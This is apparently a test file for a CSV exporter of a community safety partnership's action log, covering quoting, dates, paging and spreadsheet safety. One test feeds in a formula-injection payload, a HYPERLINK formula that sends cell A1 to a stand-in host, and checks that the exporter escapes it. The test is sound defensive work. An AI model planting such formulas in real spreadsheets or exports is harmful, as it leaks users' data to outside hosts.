import { parse } from "csv-parse/sync";
import { actionLog } from "../../bot/rules/actionLog";
import { actionsCsv } from "../../bot/rules/actionsCsv";
import type { Action } from "../../bot/rules/actionTypes";

const LONDON = "Europe/London";
const BOARD = "2024-03-21T14:00";

function action(seq: number, fields: Partial<Action> = {}): Action {
  return {
    partnershipId: "thurrock-csp",
    ref: `A-2024-${String(seq).padStart(3, "0")}`,
    seq,
    year: 2024,
    text: `Action ${seq}`,
    owners: [{ kind: "member", memberId: "m-michelle", name: "Michelle Cunningham" }],
    status: "open",
    raisedAt: "2024-03-21T15:10:00.000Z",
    raisedBy: "m-michelle",
    history: [],
    updatedAt: "2024-03-21T15:10:00.000Z",
    ...fields,
  };
}

// Raised at the 21 March 2024 board (item 6.2 and 8.3), and one from the channel between meetings.
const PREVENT = action(17, {
  text: "Circulate the Prevent strategy to statutory partners",
  owners: [{ kind: "member", memberId: "m-cheryl", name: "Cheryl Wells" }, { kind: "outside", name: "Kate Taylor", organisation: "Police" }],
  due: { kind: "date", date: "2024-06-20" },
  meetingId: BOARD,
  agendaItem: "6.2",
  status: "in-progress",
  history: [
    { at: "2024-04-02T10:00:00.000Z", by: "m-cheryl", byName: "Cheryl Wells", from: "open", to: "in-progress", note: "Sent to Police and Probation, \"awaiting\" ICB" },
    { at: "2024-04-03T10:00:00.000Z", by: "m-cheryl", byName: "Cheryl Wells", from: "in-progress", to: "in-progress" },
  ],
});
const SV_PLAN = action(18, {
  text: "Look at including longer term aims in line with the H & WB strategy,\nand report back",
  due: { kind: "next-meeting" },
  meetingId: BOARD,
  agendaItem: "8.3",
});
const LETTER = action(19, { text: "Draft a letter to encourage representation", raisedAt: "2024-03-25T23:30:00.000Z" });

const HEADER = "ref,action,owner,raised at,due,status,latest note";
const rows = (csv: string): string[][] => parse(csv, { relax_column_count: false });

describe("actionsCsv", () => {
  const titles = (id: string) => (id === BOARD ? "Board meeting" : undefined);

  it("writes the columns minutes use, with CRLF line endings", () => {
    const csv = actionsCsv([PREVENT], LONDON, { meetingTitle: titles });
    expect(csv.split("\r\n")[0]).toBe(HEADER);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(rows(csv)[1]).toEqual([
      "A-2024-017",
      "Circulate the Prevent strategy to statutory partners",
      "Cheryl Wells, Kate Taylor (Police)",
      "21 March 2024, Board meeting, item 6.2",
      "20 June 2024",
      "In progress",
      'Sent to Police and Probation, "awaiting" ICB',
    ]);
  });

  it("quotes commas, quotes and line breaks so the cells survive a spreadsheet", () => {
    const csv = actionsCsv([PREVENT, SV_PLAN], LONDON);
    expect(csv).toContain('"Sent to Police and Probation, ""awaiting"" ICB"');
    expect(csv).toContain('"Look at including longer term aims in line with the H & WB strategy,\nand report back"');
    expect(rows(csv)[2]?.[1]).toBe("Look at including longer term aims in line with the H & WB strategy,\nand report back");
  });

  it("shows the date raised in the partnership's zone, and where when known", () => {
    const [, sv, letter] = rows(actionsCsv([SV_PLAN, LETTER], LONDON, { nextMeetingDate: "2024-06-20" }));
    expect(sv?.[3]).toBe("21 March 2024, item 8.3");
    expect(sv?.[4]).toBe("Next meeting (20 June 2024)");
    expect(letter?.[3]).toBe("25 March 2024"); // 11:30pm GMT, still the 25th
    expect(letter?.[4]).toBe("No date");
    expect(letter?.[6]).toBe("");
  });

  it("writes the log as it was paged and filtered", () => {
    const log = actionLog([LETTER, PREVENT, SV_PLAN], { now: new Date("2024-04-04T09:00:00.000Z"), timeZone: LONDON, nextMeetingDate: "2024-06-20", page: 1 });
    expect(rows(actionsCsv(log.items, LONDON)).slice(1).map((r) => [r[0], r[4]])).toEqual([
      ["A-2024-017", "20 June 2024"],
      ["A-2024-018", "Next meeting (20 June 2024)"],
      ["A-2024-019", "No date"],
    ]);
  });

  it("defuses cells a spreadsheet would run as formulas", () => {
    const nasty = action(20, {
      text: '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
      owners: [{ kind: "outside", name: "@SUM(1+1)" }],
      history: [{ at: "2024-04-02T10:00:00.000Z", by: "m-x", byName: "X", from: "open", to: "in-progress", note: "-2+3" }],
    });
    const cells = rows(actionsCsv([nasty, action(21, { text: "+44 call back", owners: [{ kind: "outside", name: "\tTab" }] })], LONDON));
    expect(cells[1]?.[1]).toBe('\'=HYPERLINK("http://example.invalid/?"&A1,"Click")');
    expect(cells[1]?.[2]).toBe("'@SUM(1+1)");
    expect(cells[1]?.[6]).toBe("'-2+3");
    expect(cells[2]?.[1]).toBe("'+44 call back");
    expect(cells[2]?.[2]).toBe("'\tTab");
    // Ordinary text is left alone.
    expect(cells[1]?.[0]).toBe("A-2024-020");
  });

  it("gives just the header for an empty log, and a BOM when asked for Excel", () => {
    expect(actionsCsv([], LONDON)).toBe(`${HEADER}\r\n`);
    expect(actionsCsv([], LONDON, { bom: true })).toBe(`\uFEFF${HEADER}\r\n`);
  });
});
